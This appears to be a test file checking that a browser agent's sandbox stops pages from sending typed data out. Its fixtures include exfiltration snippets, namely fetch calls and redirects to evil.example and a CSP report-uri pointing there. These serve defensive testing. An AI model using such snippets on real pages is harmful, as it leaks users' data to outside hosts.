/** @module-tag slow */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { browserRig, type BrowserRig } from './testing/browser-rig.ts'
import { EGRESS_TRICKS, SECURE_TRICKS } from './testing/egress-tricks.ts'
import { needsChromium } from './testing/needs-chromium.ts'

needsChromium()

let rig: BrowserRig
beforeAll(async () => {
  rig = await browserRig({ names: { 'inside.example': '10.0.0.5', localhost: '127.0.0.1' } })
  const { serve } = rig.village
  serve('rest.example/', 'nothing')
  serve('shop.example/to-evil', (request, response) =>
    response.writeHead(302, { location: `http://evil.example/r${request.path}` }).end(),
  )
  serve('shop.example/keep-method', (_request, response) =>
    response.writeHead(307, { location: 'http://evil.example/kept' }).end(),
  )
  serve('shop.example/shared.js', (_request, response) =>
    response
      .setHeader('content-type', 'text/javascript')
      .end(
        "fetch('http://shop.example/shared',{method:'POST',body:'out'});fetch('http://evil.example/shared?out',{mode:'no-cors'})",
      ),
  )
  serve('shop.example/sw.js', (_request, response) =>
    response
      .setHeader('content-type', 'text/javascript')
      .end("fetch('http://evil.example/sw?out',{mode:'no-cors'})"),
  )
  serve('shop.example/csp', (_request, response) =>
    response
      .setHeader('content-security-policy', "script-src 'none'; report-uri http://evil.example/report")
      .setHeader('content-type', 'text/html')
      .end('<script>1</script>'),
  )
}, 60_000)
afterAll(() => rig.close())

test('there are at least forty tricks', () => {
  expect(EGRESS_TRICKS.length).toBeGreaterThanOrEqual(40)
})

const TYPED = 'typedbytheagent'

/** The agent types on a page that has this script, and presses its button. Auto mode may open every public page; the person denies every question. */
async function press(at: string, script: string): Promise<void> {
  rig.rules('auto', ['browser(domain:shop.example)'])
  rig.answer(() => ({ allow: false }))
  rig.village.serve(
    'shop.example/',
    `<input aria-label=Field id=field><button id=go>Go</button><script>go.onclick=()=>{const V=field.value;try{${script}}catch(e){}}</script>`,
  )
  await rig.act({ action: 'navigate', url: 'http://rest.example/' })
  for (const page of rig.session().pages.slice(0, -1)) await page.close()
  const { text } = await rig.act({ action: 'navigate', url: at })
  expect(text).toContain('button "Go"')
  const [field = '', go = ''] = [...text.matchAll(/\[(e\d+)\]/g)].map(([, ref]) => ref)
  await rig.act({ action: 'type', ref: field, text: TYPED })
  // Chromium itself asks services of its maker about pages and fields, also where auto mode may open every page.
  expect(rig.village.named.filter((name) => !name.endsWith('.example'))).toEqual([])
  rig.village.arrived.length = 0
  rig.village.named.length = 0
  tunnels = rig.village.tunnels()
  await rig.act({ action: 'click', ref: go })
  await rig.act({ action: 'wait', seconds: 0.3 })
}

/** Connections for TLS before the button was pressed. */
let tunnels = 0

function gotOut(): readonly string[] {
  const out = rig.village.arrived.filter(
    ({ host, method, headers }) =>
      !host.startsWith('shop.example') ||
      !['GET', 'HEAD', 'OPTIONS'].includes(method) ||
      headers.upgrade !== undefined,
  )
  return out.map(({ method, host, path }) => `${method} ${host}${path}`)
}

test.each(EGRESS_TRICKS)('nothing leaves by $name', async ({ script }) => {
  await press('http://shop.example/', script)
  expect(gotOut()).toEqual([])
  // Looking up a name already tells it to others.
  expect(rig.village.named.filter((name) => name !== 'shop.example')).toEqual([])
  expect(rig.village.tunnels()).toBe(tunnels)
})

test.each(SECURE_TRICKS)('nothing leaves a page over TLS by $name', async ({ script }) => {
  await press('https://shop.example/', script)
  expect(gotOut()).toEqual([])
  expect(rig.village.named.filter((name) => name !== 'shop.example')).toEqual([])
  expect(rig.village.tunnels()).toBe(tunnels)
})

test('a page over TLS is read, and what it posts is a question', async () => {
  await press('https://shop.example/', `fetch('/vote?'+V,{method:'POST',body:V})`)
  expect(rig.asked.at(-1)?.call.title).toBe('The page wants to send POST shop.example/vote')
  expect(rig.village.tunnels()).toBeGreaterThan(0)
  rig.answer(() => ({ allow: true }))
  const seen = await rig.act({ action: 'snapshot' })
  await rig.act({ action: 'click', ref: /Go" \[(e\d+)\]/.exec(seen.text)?.[1] })
  expect(rig.village.arrived.map(({ method, body }) => [method, body])).toContainEqual(['POST', TYPED])
})
